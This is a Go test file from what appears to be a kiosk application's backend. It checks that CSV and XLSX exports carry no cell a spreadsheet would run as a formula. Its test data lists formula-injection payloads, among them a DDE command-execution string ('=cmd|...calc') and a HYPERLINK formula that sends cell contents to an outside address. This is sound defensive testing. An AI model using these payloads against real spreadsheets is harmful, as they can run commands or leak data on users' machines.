package kiosk_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"bapashadir/backend/kiosk/kiosktest"
	"bapashadir/backend/report"
	"bapashadir/backend/sheet"
	"github.com/xuri/excelize/v2"
)

// wild are cells that spreadsheets run or lose, and some that look like them.
var wild = []string{"=1+1", "=HYPERLINK(\"http://10.0.0.1/?\"&A1)", "+1", "-1+1", "@SUM(A1:A9)", "=cmd|'/C calc'!A0", "+62 812 3456 7890", "-", "-Siti", "'Umar", "'=1", "''=1",
	"\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u3000=1", "\"=1\"", "\"\"=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "a;=1", "a,=1", "a\t=1", "a\n=1", "a\r\n=1", "0812-3456-7890", "_x003D_1",
	"Siti Aminah", "", "{=1}", "Đặng 王 \u202e=1"}

// Every table that leaves the app, with each of those in every field: no spreadsheet runs
// a cell, and whoever reads it back finds what was there.
func TestNoExportHoldsACellThatRuns(t *testing.T) {
	cfg := kiosktest.Config(t.TempDir())
	cfg.Demo = true
	k := kiosktest.Start(t, cfg)
	for _, what := range exports(t) {
		table, err := k.Table(context.Background(), what, "")
		if err != nil {
			t.Fatal(err)
		}
		table.Rows = spoilt(len(table.Columns))
		for format, of := range map[string]func(io.Writer, report.Table) error{"csv": written("csv"), "xlsx": written("xlsx")} {
			if err := lookAt(table, format, of); err != nil {
				t.Errorf("%s as %s: %v", what, format, err)
			}
		}
		// The faults: cells written as they are.
		for format, of := range map[string]func(io.Writer, report.Table) error{"csv": rawCSV, "xlsx": rawXLSX} {
			if lookAt(table, format, of) == nil {
				t.Errorf("%s as %s: the proof overlooks a raw cell", what, format)
			}
		}
	}
}

// exports are the tables that the command line names: the window has fewer, by the same
// writer (arch_test.go).
func exports(t *testing.T) []string {
	t.Helper()
	b, err := os.ReadFile("../../main.go")
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`What +string +.*enum:"([a-z,]+)"`).FindSubmatch(b)
	if m == nil {
		t.Fatal("the command line names no tables")
	}
	return strings.Split(string(m[1]), ",")
}

// spoilt has each wild cell in each column.
func spoilt(columns int) (rows [][]string) {
	for i := range wild {
		row := make([]string, columns)
		for j := range row {
			row[j] = wild[(i+j)%len(wild)]
		}
		rows = append(rows, row)
	}
	return rows
}

func written(format string) func(io.Writer, report.Table) error {
	return func(w io.Writer, t report.Table) error { return t.Write(w, format) }
}

func rawCSV(w io.Writer, t report.Table) error {
	c := csv.NewWriter(w)
	c.Comma = ';'
	return c.WriteAll(append([][]string{t.Columns}, t.Rows...))
}

func rawXLSX(w io.Writer, t report.Table) error {
	f := excelize.NewFile()
	for i, row := range append([][]string{t.Columns}, t.Rows...) {
		for j, c := range row {
			at, err := excelize.CoordinatesToCellName(j+1, i+1)
			if err == nil && strings.HasPrefix(c, "=") {
				err = f.SetCellFormula("Sheet1", at, c)
			} else if err == nil {
				err = f.SetCellValue("Sheet1", at, c)
			}
			if err != nil {
				return err
			}
		}
	}
	return f.Write(w)
}

// lookAt writes a table, and says what a spreadsheet would run of it or lose.
func lookAt(t report.Table, format string, write func(io.Writer, report.Table) error) error {
	var b bytes.Buffer
	if err := write(&b, t); err != nil {
		return err
	}
	if err := map[string]func([]byte) error{"csv": runsCSV, "xlsx": runsXLSX}[format](b.Bytes()); err != nil {
		return err
	}
	rows, err := sheet.Read(context.Background(), b.Bytes(), nil)
	if err != nil {
		return err
	}
	rows = slices.DeleteFunc(rows, func(r []string) bool { return len(r) == 0 }) // lines within a cell count as lines
	plain := func(s string) string { return strings.TrimSpace(strings.ReplaceAll(s, "\r\n", "\n")) }
	for i, row := range t.Rows {
		for j, cell := range row {
			got := ""
			if j < len(rows[i+1]) {
				got = rows[i+1][j]
			}
			if plain(got) != plain(cell) {
				return fmt.Errorf("%q came back as %q", cell, got)
			}
		}
	}
	return nil
}

// runsCSV takes cells apart as Excel does here, and as programs do that part by commas and
// tabs as well.
func runsCSV(b []byte) error {
	text := strings.TrimPrefix(string(b), "\ufeff")
	for _, commas := range []string{";", ";,\t"} {
		for _, cell := range cells(text, commas) {
			first := strings.TrimLeft(cell, " \u00a0\u3000\"\r\n")
			if cell == "-" || first == "" {
				continue
			}
			if strings.ContainsRune("=+-@\t＝＋－＠", []rune(first)[0]) || strings.ContainsRune("\t\r\n", rune(cell[0])) {
				return fmt.Errorf("a spreadsheet would run %q", cell)
			}
		}
	}
	return nil
}

// cells takes a CSV apart by any of commas; quotes close a cell only where it begins.
func cells(text, commas string) (out []string) {
	var cell strings.Builder
	open, begun := false, false
	for i, r := range []rune(text) {
		switch {
		case r == '"' && !begun && !open:
			open, begun = true, true
		case r == '"' && open:
			next := append([]rune(text), 0)[i+1]
			if next == ';' || next == '\n' || next == 0 || strings.ContainsRune(commas, next) {
				open = false
			} else {
				cell.WriteRune(r)
			}
		case !open && (r == '\n' || strings.ContainsRune(commas, r)):
			out = append(out, cell.String())
			cell.Reset()
			begun = false
		default:
			begun = true
			cell.WriteRune(r)
		}
	}
	return append(out, cell.String())
}

// runsXLSX wants texts and nothing else.
func runsXLSX(b []byte) error {
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		return err
	}
	rows, err := f.GetRows("Sheet1")
	if err != nil {
		return err
	}
	for i, row := range rows {
		for j := range row {
			at, err := excelize.CoordinatesToCellName(j+1, i+1)
			if err != nil {
				return err
			}
			formula, err1 := f.GetCellFormula("Sheet1", at)
			kind, err2 := f.GetCellType("Sheet1", at)
			if err1 != nil || err2 != nil || formula != "" {
				return fmt.Errorf("%s is the formula %q %v %v", at, formula, err1, err2)
			}
			if !slices.Contains([]excelize.CellType{excelize.CellTypeInlineString, excelize.CellTypeSharedString, excelize.CellTypeUnset}, kind) {
				return fmt.Errorf("%s is no text but %v", at, kind)
			}
		}
	}
	return nil
}
